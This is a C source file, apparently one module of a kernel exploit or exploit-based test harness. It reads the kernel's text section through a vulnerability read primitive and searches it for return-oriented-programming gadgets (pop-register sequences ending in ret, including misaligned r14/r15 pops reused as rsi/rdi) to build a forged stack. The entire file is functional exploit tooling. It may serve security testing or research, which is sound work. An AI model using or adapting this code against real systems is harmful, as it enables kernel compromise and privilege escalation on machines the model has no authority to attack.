/* Finds pieces of the kernel's own code that a forged stack can string together. */
#include "attack.h"

#include <stdlib.h>
#include <string.h>

enum {
	OPCODE_POP = 0x58, /* plus the register's number */
	OPCODE_POP_LAST = 0x5f,
	OPCODE_POP_RSP = 0x5c,
	OPCODE_PREFIX_B = 0x41, /* turns the pop after it into one of r8 to r15 */
	OPCODE_RET = 0xc3,
	MAX_EXTRA = 6,
};

uint8_t *gadget_text(const struct bw_leak *leak, size_t *nr_bytes)
{
	size_t length = (leak->image_text_end - leak->image_base) & ~(size_t)7;
	uint8_t *text = malloc(length);

	if (text == NULL) {
		attack_skip("no memory for a copy of the kernel's text");
	}
	for (size_t offset = 0; offset < length; offset += sizeof(long)) {
		long word = bw_vuln_read(leak->image_base + offset);

		memcpy(text + offset, &word, sizeof(word));
	}
	*nr_bytes = length;
	return text;
}

/* True where only pops and then a ret follow; counts the pops. */
static bool ends_in_ret(const uint8_t *code, const uint8_t *end, unsigned int *nr_pops)
{
	*nr_pops = 0;
	while (code < end && *nr_pops <= MAX_EXTRA) {
		if (*code == OPCODE_RET) {
			return true;
		}
		if (*code == OPCODE_PREFIX_B && code + 1 < end) {
			code++;
		} else if (*code == OPCODE_POP_RSP) {
			return false;
		}
		if (*code < OPCODE_POP || *code > OPCODE_POP_LAST) {
			return false;
		}
		code++;
		(*nr_pops)++;
	}
	return false;
}

bool gadget_find(const uint8_t *text, size_t nr_bytes, uint64_t text_base, enum gadget_register reg,
		 struct gadget *gadget)
{
	const uint8_t *end = text + nr_bytes;

	/*
	 * Compiled code pops r14 and r15 before it returns; from its second byte on that is rsi and
	 * rdi.
	 */
	for (const uint8_t *code = text; code < end; code++) {
		unsigned int nr_extra;

		if (*code == OPCODE_POP + reg && ends_in_ret(code + 1, end, &nr_extra)) {
			gadget->address = text_base + (uint64_t)(code - text);
			gadget->nr_extra = nr_extra;
			return true;
		}
	}
	return false;
}
